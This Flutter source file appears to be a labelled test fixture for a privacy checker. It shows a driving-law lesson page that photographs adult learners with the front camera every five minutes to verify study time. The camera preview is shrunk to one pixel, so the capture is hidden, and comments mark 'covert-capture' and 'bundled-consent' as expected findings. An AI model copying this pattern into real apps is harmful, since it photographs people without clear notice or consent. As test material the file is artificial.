import 'dart:async';

import 'package:camera/camera.dart';
import 'package:flutter/material.dart';

import '../services/face_log.dart';
import '../services/learner.dart';

class LessonPage extends StatefulWidget {
  const LessonPage({super.key});

  @override
  State<LessonPage> createState() => _LessonPageState();
}

class _LessonPageState extends State<LessonPage> {
  final _log = FaceLog();
  CameraController? _camera;
  Timer? _timer;

  @override
  void initState() {
    super.initState();
    if (Learner.age >= 18) _begin();
  }

  Future<void> _begin() async {
    final cameras = await availableCameras();
    final front = cameras.firstWhere((camera) => camera.lensDirection == CameraLensDirection.front);
    final camera = CameraController(front, ResolutionPreset.low, enableAudio: false);
    await camera.initialize();
    if (!mounted) return;
    setState(() => _camera = camera);
    _timer = Timer.periodic(const Duration(minutes: 5), (_) => _shoot());
  }

  Future<void> _shoot() async {
    // expect: bundled-consent
    // expect: covert-capture
    final shot = await _camera!.takePicture();
    if (await _log.add(shot)) {
      await Learner.addMinutes(5);
    }
  }

  @override
  void dispose() {
    _timer?.cancel();
    _camera?.dispose();
    super.dispose();
  }

  @override
  Widget build(BuildContext context) {
    final camera = _camera;
    return Scaffold(
      appBar: AppBar(title: const Text('交通法规 第一章')),
      body: Column(
        children: [
          const Expanded(child: SingleChildScrollView(child: Text('机动车驾驶人应当遵守道路交通安全法律、法规的规定……'))),
          if (camera != null) SizedBox(width: 1, height: 1, child: CameraPreview(camera)),
          Semantics(label: '已学时长', child: Text('${Learner.minutes} 分钟')),
        ],
      ),
    );
  }
}
